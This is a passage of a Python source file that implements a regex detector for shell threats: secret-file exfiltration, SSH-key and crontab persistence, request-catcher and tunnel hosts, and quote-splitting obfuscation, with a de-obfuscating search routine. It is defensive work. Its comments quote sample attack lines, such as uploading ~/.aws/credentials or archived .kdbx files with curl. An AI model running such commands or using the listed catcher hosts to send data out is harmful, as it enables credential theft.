        rf"\b(?:nc|ncat|netcat|socat|telnet)\b[^\n]{{0,100}}?<\s*[\"']?[^\s\"']{{0,40}}?{SECRET_PATH}",
        rf"\bopen\s*\([^\n)]{{0,80}}?{SECRET_PATH}[\s\S]{{0,300}}?"
        r"(?:(?:requests|httpx|session)\.(?:post|put)\s*\(|urlopen\s*\()",
        # The same in the other order: the request's body is the read
        # (``urlopen(URL, data=open(expanduser('~/.aws/credentials')).read())``),
        # or the secret folder is named first and each file in it is read
        # into the request (``d = expanduser('~/.ssh')`` ... ``urlopen(URL,
        # data=open(join(d, f)).read())``). Must not catch a request that
        # only names a key path as a setting (``requests.post(URL,
        # json={"key_path": "~/.ssh/id_rsa"})``): a file is opened into the body.
        rf"{_PY_SENDER}\s*\([^)]{{0,200}}?\bopen\s*\([^\n)]{{0,80}}?{SECRET_PATH}",
        rf"{SECRET_PATH}[\s\S]{{0,300}}?{_PY_SENDER}\s*\([^)]{{0,200}}?"
        r"\b(?:data|files|content)\s*=\s*\{?[^\n(]{0,40}?\bopen\s*\(",
        rf"{_SEND_VERB}[^\n]{{0,80}}?{SECRET_PATH}[^\n]{{0,120}}?{_DESTINATION}",
        # Secret files found and archived straight into an upload:
        # ``find / -name '*.kdbx' | xargs tar czf - | curl -T - URL``.
        rf"{SECRET_PATH}[^\n]{{0,200}}?\b(?:tar|zip|7z|gzip)\b[^\n]{{0,80}}?\|[^\n]{{0,40}}?"
        r"\b(?:curl|wget)\b[^\n]{0,80}?"
        r"(?:\s-T\s*-(?=\s)|--upload-file\s*-(?=\s)|--data-binary\s*@-|\s-d\s*@-|\s-F\s*\S*=@-)",
        rf"{SECRET_PATH}[^\n]{{0,120}}?{_SEND_VERB}[^\n]{{0,80}}?{_DESTINATION}",
    )
)

# Persistence: adding an attacker's key to authorized_keys, or a cron entry
# that fetches and runs code. Must not catch: reading authorized_keys.
_PERSISTENCE = (
    _gated(
        "persistence",
        r">>\s*[\"']?(?:~|\$\{?HOME\}?|/root|/home/[\w.-]{1,32})?/\.ssh/authorized_keys\b",
        "authorized_keys",
    ),
    _gated(
        "persistence",
        r"\bcrontab\b[^\n]{0,200}?(?:curl|wget)\b[^\n]{0,200}?\|\s*" + _SHELL,
        "crontab",
    ),
)

# Services that exist to receive requests from anywhere and show them to
# whoever made the URL: request bins, webhook testers, out-of-band
# interaction catchers and public tunnels. Hosts whose names are also file
# names or words (interact.sh is a script name; loca.lt, bore.pub, postb.in)
# count only in a URL or after an "@". Must not catch the services' own
# product sites (ngrok.com, pipedream.com) or a word like "webhook".
_COLLECTION_HOSTS = (
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "requestbin.io",
    "pipedream.net",
    "ngrok.io",
    "ngrok.app",
    "ngrok.dev",
    "ngrok-free.app",
    "ngrok-free.dev",
    "oastify.com",
    "oast.fun",
    "oast.me",
    "oast.live",
    "oast.pro",
    "oast.site",
    "oast.online",
    "burpcollaborator.net",
    "trycloudflare.com",
    "serveo.net",
    "serveousercontent.com",
    "localtunnel.me",
    "localhost.run",
    "lhr.life",
    "pagekite.me",
    "requestcatcher.com",
    "hookbin.com",
    "beeceptor.com",
    "dnslog.cn",
    "ceye.io",
    "ptsv2.com",
    "ptsv3.com",
    "webhook.cool",
    "requestrepo.com",
)
_URL_ONLY_HOSTS = ("interact.sh", "loca.lt", "bore.pub", "postb.in")
_COLLECTION_HOST = (
    _gated(
        "collection-host",
        r"(?<![\w-])(?:" + "|".join(regex.escape(h) for h in _COLLECTION_HOSTS) + r")(?![\w-])",
        *_COLLECTION_HOSTS,
    ),
    _gated(
        "collection-host",
        r"(?:https?://|//|@)(?:[a-z0-9-]{1,63}\.){0,8}(?:"
        + "|".join(regex.escape(h) for h in _URL_ONLY_HOSTS)
        + r")(?![\w-])",
        *_URL_ONLY_HOSTS,
    ),
)

_PATTERNS = (
    *_DOWNLOAD_EXECUTE,
    *_RUN_DROPPED,
    *_REVERSE_SHELL,
    *_ENCODED_POWERSHELL,
    *_DESTRUCTIVE,
    *_SECRET_EXFILTRATION,
    *_PERSISTENCE,
    *_COLLECTION_HOST,
)
_GATE = KeywordGate(_PATTERNS)

# Shell quoting tricks that split a command word without changing what the
# shell runs: `c''url`, `c"u"rl`, `c\url`, `${IFS}` for a space.
_EMPTY_QUOTES = regex.compile(r"''|\"\"")
_SPLIT_QUOTES = regex.compile(r"(?<=\w)([\"'])(\w{1,8})\1(?=\w)")
_BACKSLASH_LETTER = regex.compile(r"(?<=\w)\\(?=[a-z])")
_IFS = regex.compile(r"\$\{?IFS\}?")
_TRICK_MARKERS = ("''", '""', "\\", "$IFS", "${IFS}", "'", '"')


def canonical_shell(text: str) -> str:
    """``text`` with the shell's word-splitting tricks undone (``c''url`` -> ``curl``)."""
    # Each rewrite runs only when its marker is in the text (a C substring
    # test): a long text without the trick is not scanned for it.
    if "IFS" in text:
        text = _IFS.sub(" ", text)
    if "''" in text or '""' in text:
        text = _EMPTY_QUOTES.sub("", text)
    text = _SPLIT_QUOTES.sub(r"\2", text)
    return _BACKSLASH_LETTER.sub("", text) if "\\" in text else text


def _search(
    text: str,
    limit: int,
    misses: set[WindowKey] | None,
    known_misses: Collection[WindowKey],
    lowered: str | None = None,
) -> list[ShellThreat]:
    found: dict[str, ShellThreat] = {}
    for gated, match in _GATE.search(text, lowered, misses, known_misses):
        if gated.kind in found:
            continue
        found[gated.kind] = ShellThreat(
            gated.kind, _DESCRIPTIONS[gated.kind], match.group(), match.start(), match.end()
        )
    return [found[kind] for kind in KINDS if kind in found][:limit]


def find_shell_threats(text: str, limit: int = 4) -> Sequence[ShellThreat]:
    """The shell or exfiltration threats in ``text``, at most one per kind.

    The text is tried as given, then in its shell-canonical form; the first
    form with any match wins, so offsets always refer to one text. The
    canonical form differs from the text only around its shell tricks: a
    window of it that reads as a window of the text searched in vain is not
    searched again.
    """
    tricked = any(marker in text for marker in _TRICK_MARKERS)
    lowered = same_length_lower(text)
    if not tricked and not _GATE.may_open_window(lowered):
        # No keyword, no window to search; and without a shell trick there
        # is no canonical form to try (the common case of a decoded blob).
        return ()
    misses: set[WindowKey] | None = set() if tricked else None
    found = _search(text, limit, misses, (), lowered)
    if found:
        return tuple(found)
    if misses is None:
        return ()
    canonical = canonical_shell(text)
    return tuple(_search(canonical, limit, None, misses)) if canonical != text else ()


def first_shell_threat(text: str) -> ShellThreat | None:
    """The first threat ``find_shell_threats`` reports, or ``None``."""
    found = find_shell_threats(text, limit=1)
    return found[0] if found else None
